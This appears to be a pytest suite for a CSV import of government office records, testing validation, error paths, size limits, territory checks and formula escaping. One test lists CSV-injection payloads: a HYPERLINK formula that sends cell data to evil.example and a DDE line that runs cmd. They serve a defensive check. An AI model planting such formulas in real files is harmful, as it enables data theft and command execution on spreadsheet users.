"""Many offices are changed from CSV text.

Every bad line is named, and an unchanged export changes nothing.
"""

import csv
import io
from collections.abc import Iterator

import pytest
from sqlalchemy import Engine

from geo.exports.tables import Table, csv_table
from loaders.seeds import Seeds
from store.reading.editions import load_edition
from tests.changing import EDUCATION, ERRORS, HEAD_PSC, KARASAI, ChangingClient
from tests.filled import fill

IMPORT = f"""mutation($csv: String!, $partial: Boolean! = false) {{
  officesImport(csv: $csv, reason: "the yearly list", partial: $partial) {{
    accepted offices {{ id version }} {ERRORS} }} }}"""


@pytest.fixture
def client(store_engine: Engine, small_seeds: Seeds) -> Iterator[ChangingClient]:
    """A server over the small seeds on either store."""
    fill(store_engine, small_seeds)
    client = ChangingClient(store_engine)
    with client.http:
        yield client


def exported(client: ChangingClient) -> list[dict[str, str]]:
    text = b"".join(csv_table(client.edition, Table.OFFICES)).decode()
    return list(csv.DictReader(io.StringIO(text)))


def as_text(rows: list[dict[str, str]]) -> str:
    line = io.StringIO(newline="")
    writer = csv.DictWriter(line, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return line.getvalue()


def test_an_edited_export_is_one_edition(client: ChangingClient) -> None:
    rows = exported(client)
    for row in rows:
        if row["id"] == f"Office:{KARASAI}":
            row |= {"name_ru": "Аппарат акима, Карасай", "phones": "8 (716 38) 3-41-91|+77163834190"}
        if row["id"] == f"Office:{EDUCATION}":
            row |= {"postal_code": "020111", "phones": "-"}
    payload = client.change(IMPORT, csv="\ufeff" + as_text(rows))
    assert payload["accepted"] == 2
    assert sorted(one["id"] for one in payload["offices"]) == [f"Office:{EDUCATION}", f"Office:{KARASAI}"]
    karasai, education = (client.edition.offices[each] for each in (KARASAI, EDUCATION))
    assert [one.value for one in karasai.contacts] == ["+77163834191", "+77163834190"]
    assert karasai.names[0].value == "Аппарат акима, Карасай"
    assert education.contacts == ()
    assert client.edition.number == 2
    assert load_edition(client.engine) == client.edition


BAD_LINES = f"""id,version,name_ru,phones,settlement
Office:{KARASAI},1,Имя,,
Office:{EDUCATION},1,,8 (716 38) 1,
Office:nobody,1,Имя,,
Office:{HEAD_PSC},1,,,Settlement:nowhere
Office:{KARASAI},1,Имя,,
Office:akm-akkol-psc,x,Имя,,
Office:akm-akkol-akimat,3,"Имя
в две строки",,
"""
TOLD = [
    ("INVALID", ["csv", "3", "phones"]),
    ("NOT_FOUND", ["csv", "4", "id"]),
    ("NOT_FOUND", ["csv", "5", "settlement"]),
    ("DUPLICATE", ["csv", "6", "id"]),
    ("INVALID", ["csv", "7", "version"]),
    ("INVALID", ["csv", "8", "version"]),
]


def test_every_bad_line_is_named_and_nothing_is_stored(client: ChangingClient) -> None:
    assert client.refused(IMPORT, csv=BAD_LINES) == TOLD


def test_good_lines_are_stored_when_that_is_asked_for(client: ChangingClient) -> None:
    payload = client.tried(IMPORT, csv=BAD_LINES, partial=True)
    assert (payload["accepted"], payload["offices"]) == (1, [{"id": f"Office:{KARASAI}", "version": 2}])
    assert [(one["code"], one["path"]) for one in payload["userErrors"]] == TOLD
    assert client.edition.offices[KARASAI].names[0].value == "Имя"
    assert load_edition(client.engine) == client.edition


@pytest.mark.slow
@pytest.mark.parametrize(
    ("text", "path", "message"),
    [
        ("", ["csv", "1"], "id is missing"),
        ("id,version", ["csv"], "no line below"),
        ("id,version\n\n , \n", ["csv"], "no line below"),
        ("id,version,colour\nOffice:x,1,red", ["csv", "1"], "unknown columns: colour"),
        ("id,version,id\nOffice:x,1,x", ["csv", "1"], "named twice"),
        ("id,version,latitude\nOffice:x,1,52", ["csv", "1"], "come together"),
        *[
            (f"id,version,latitude,longitude\n{KARASAI},1,{at}", ["csv", "2", "longitude"], "are not degrees")
            for at in ("5_2,7_1", "٥٢,٧١", "nan,71", "52,inf", '"5,2,1","71,9"')
        ],
        ("id,version\nOffice:x,1,2", ["csv", "2"], "3 cells, not the 2"),
        ('id,version\n"Office:x,1', ["csv"], "not CSV"),
        ("id,version\nOffice:x\x00,1", ["csv"], "NUL"),
        ("id,version,name_ru\nOffice:x,1," + "я" * 10_001, ["csv", "2"], "longer than 10000"),
        ('id,version,name_ru\nOffice:x,1,"' + "я" * 200_000 + '"', ["csv"], "not CSV"),
        ("id,version\n" + "Office:x,1\n" * 1_001, ["csv"], "at most 1000"),
    ],
)
def test_what_is_no_list_of_offices_is_refused(
    client: ChangingClient, text: str, path: list[str], message: str
) -> None:
    payload = client.tried(IMPORT, csv=text)
    (error,) = payload["userErrors"]
    assert (error["code"], error["path"]) == ("INVALID", path)
    assert message in error["message"]
    assert client.edition.number == 1


FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1;"Акимат")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-Отдел, +7 и =1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_a_text_that_no_spreadsheet_calculates(client: ChangingClient, formula: str) -> None:
    rows = [row for row in exported(client) if row["id"] == f"Office:{KARASAI}"]
    rows[0]["name_ru"] = formula
    client.change(IMPORT, csv=as_text(rows))
    assert client.edition.offices[KARASAI].names[0].value == formula
    (row,) = [row for row in exported(client) if row["id"] == f"Office:{KARASAI}"]
    assert (row["name_ru"], row["phones"]) == (f"'{formula}", "+77163834190")
    # An unchanged export changes nothing, also with such a name in it.
    before = client.edition
    assert client.change(IMPORT, csv=as_text(exported(client)))["accepted"] == 0
    assert load_edition(client.engine) == before


@pytest.mark.slow
def test_a_cell_of_ten_megabytes_is_refused_by_the_size_of_the_request_or_as_a_cell(
    client: ChangingClient, store_engine: Engine
) -> None:
    huge = "id,version,name_ru\nOffice:x,1," + "a" * 10_000_000
    body = {"query": IMPORT, "variables": {"csv": huge}}
    before = client.edition
    assert client.http.post("/graphql", json=body).status_code == 413
    large = ChangingClient(store_engine, {"KENSE_BODY_LIMIT_BYTES": "20000000"})
    assert large.refused(IMPORT, csv=huge) == [("INVALID", ["csv"])]
    assert load_edition(store_engine) == before


def test_a_line_out_of_the_territory_is_refused_and_the_others_may_pass(client: ChangingClient) -> None:
    client.sign_in("akm-akkol", role="editor", subject="editor")
    text = f"id,version,name_ru\nOffice:{KARASAI},1,Имя\nOffice:{HEAD_PSC},1,Имя\n"
    assert client.refused(IMPORT, csv=text) == [("OUT_OF_TERRITORY", ["csv", "3", "id"])]
    assert client.tried(IMPORT, csv=text, partial=True)["accepted"] == 1
    assert client.edition.offices[HEAD_PSC].version == 1
